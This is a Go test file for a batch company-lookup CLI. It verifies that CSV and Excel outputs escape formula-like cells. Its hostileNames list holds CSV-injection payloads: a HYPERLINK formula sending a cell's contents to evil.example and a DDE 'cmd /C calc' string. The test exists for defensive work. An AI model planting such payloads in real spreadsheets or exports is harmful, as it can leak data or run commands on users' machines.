package cli

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/qccbatch/qccbatch/batch/results"
	"github.com/qccbatch/qccbatch/client/qcctest"
)

// hostileNames are company names (and with them search keys, ledger rows
// and input cells) that a spreadsheet would evaluate if written raw: each
// leading character of SPEC's list, and a real-looking negative number.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"点击")有限公司`,
	"+1+1有限公司",
	"-1+1有限公司",
	"-5",
	"@SUM(1+1)*cmd|' /C calc'!A0公司",
	"\t=1+1科技有限公司",
	"\r=2+2科技有限公司",
	"正常科技有限公司",
}

// runCLIWithin is runCLI under a deadline: a run against the fake API
// never hangs the test.
func runCLIFor(t *testing.T, d time.Duration, args ...string) (code int, out string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	root := newRootCmd()
	var b bytes.Buffer
	root.SetOut(&b)
	root.SetErr(&b)
	root.SetArgs(args)
	cmd, err := root.ExecuteContextC(ctx)
	require.NoError(t, ctx.Err(), "the command ended before the test deadline")
	if err != nil {
		return exitCode(err), b.String() + errorLine(cmd, err)
	}
	return 0, b.String()
}

// TestTables_FormulaSafe writes every table the program writes — run's
// results (.csv, .xlsx), validate -o (.csv, .xlsx), export, the ledger
// (.csv, .xlsx with its invoice) — for a book of hostile company names
// and an order number "@SUM(…)", and checks each cell: no text cell begins
// with =, +, -, @, tab or CR in a CSV (it is prefixed with '), and no cell
// of a workbook is a formula but the results' own HYPERLINK links, and a
// formula-like text cell has the Text format (issue 18 item 9: the ledger
// wrote them raw).
func TestTables_FormulaSafe(t *testing.T) {
	srv := qcctest.New(t, qcctest.WithGenDelay(0))
	srv.SetRewrite(qcctest.Rewrite{OrderNo: func(searchKey, no string) string {
		if searchKey == "正常科技有限公司" {
			return "@SUM(A1)" + no // a hostile number: kept byte for byte, written safe
		}
		return no
	}})
	dir := t.TempDir()
	in := filepath.Join(dir, "book.csv")
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	require.NoError(t, w.Write([]string{"企业名称", "=备注"}))
	for _, n := range hostileNames {
		require.NoError(t, w.Write([]string{n, "@note"}))
	}
	w.Flush()
	require.NoError(t, os.WriteFile(in, b.Bytes(), 0o600))
	state := filepath.Join(dir, "book.qccstate")
	t.Setenv("QCC_KEY", "sandbox")
	t.Setenv("QCC_SECRET_KEY", "sandbox")

	const d = 60 * time.Second
	var files []string
	for _, ext := range []string{".csv", ".xlsx"} {
		out := filepath.Join(dir, "results"+ext)
		code, log := runCLIFor(t, d, "run", in, "--lang", "en", "--base-url", srv.BaseURL(), "--qps", "0", "--poll-interval", "20ms",
			"--timeout", "2s", "--quiet", "--state", state, "-o", out)
		// The fake does not know the rewritten number: its polls answer 201
		// and the row is uncertain (exit 5), which is beside the point here.
		require.Contains(t, []int{exitOK, exitIncomplete, exitPerson}, code, log)
		files = append(files, out)
	}
	for _, ext := range []string{".csv", ".xlsx"} {
		out := filepath.Join(dir, "validate"+ext)
		code, log := runCLIFor(t, d, "validate", in, "--lang", "en", "-o", out)
		require.Equal(t, exitOK, code, log)
		files = append(files, out)

		out = filepath.Join(dir, "export"+ext)
		code, log = runCLIFor(t, d, "export", "--lang", "en", "-o", out, state, in)
		require.Equal(t, exitOK, code, log)
		files = append(files, out)

		out = filepath.Join(dir, "ledger"+ext)
		code, log = runCLIFor(t, d, "ledger", "-o", out, state)
		require.Equal(t, exitOK, code, log)
		files = append(files, out)
	}
	for _, f := range files {
		t.Run(filepath.Base(f), func(t *testing.T) {
			var seen map[string]bool
			if strings.HasSuffix(f, ".csv") {
				seen = checkCSVSafe(t, f)
			} else {
				seen = checkXLSXSafe(t, f)
			}
			// The hostile values are there, as text, not dropped.
			if strings.HasPrefix(filepath.Base(f), "ledger") {
				assert.True(t, seen["-1+1"], "the ledger's search_key -1+1… is written")
				assert.True(t, seen["@SUM(A1)"], "the ledger's order number @SUM(A1)… is written")
			} else {
				assert.True(t, seen["=HYPERLINK("], "the hostile name is written")
			}
		})
	}
}

// prefixes notes which hostile values a table holds (unprefixed).
func notePrefixes(seen map[string]bool, s string) {
	for _, p := range []string{"-1+1", "@SUM(A1)", "=HYPERLINK("} {
		if strings.HasPrefix(strings.TrimPrefix(s, "'"), p) {
			seen[p] = true
		}
	}
}

func checkCSVSafe(t *testing.T, path string) map[string]bool {
	t.Helper()
	data, err := os.ReadFile(path)
	require.NoError(t, err)
	require.True(t, bytes.HasPrefix(data, []byte("\ufeff")), "a BOM")
	recs, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
	require.NoError(t, err)
	seen := map[string]bool{}
	for i, rec := range recs {
		for j, s := range rec {
			assert.False(t, results.FormulaLike(s), "%s line %d field %d: %q would be evaluated", filepath.Base(path), i+1, j+1, s)
			notePrefixes(seen, s)
		}
	}
	return seen
}

func checkXLSXSafe(t *testing.T, path string) map[string]bool {
	t.Helper()
	f, err := excelize.OpenFile(path)
	require.NoError(t, err)
	defer func() { _ = f.Close() }()
	seen := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, _ := f.GetCellFormula(sheet, cell)
				if formula != "" {
					assert.True(t, strings.HasPrefix(formula, "HYPERLINK("), "%s!%s: formula %q", sheet, cell, formula)
					continue
				}
				notePrefixes(seen, v)
				if !results.FormulaLike(v) {
					continue
				}
				typ, _ := f.GetCellType(sheet, cell)
				if typ == excelize.CellTypeUnset || typ == excelize.CellTypeNumber {
					continue // a number cell (-5 read as a number stays one)
				}
				style, _ := f.GetCellStyle(sheet, cell)
				st, _ := f.GetStyle(style)
				if assert.NotNil(t, st, "%s!%s", sheet, cell) {
					assert.Equal(t, 49, st.NumFmt, "%s!%s %q: not Text (@): editing it would make a formula", sheet, cell, v)
				}
			}
		}
	}
	return seen
}
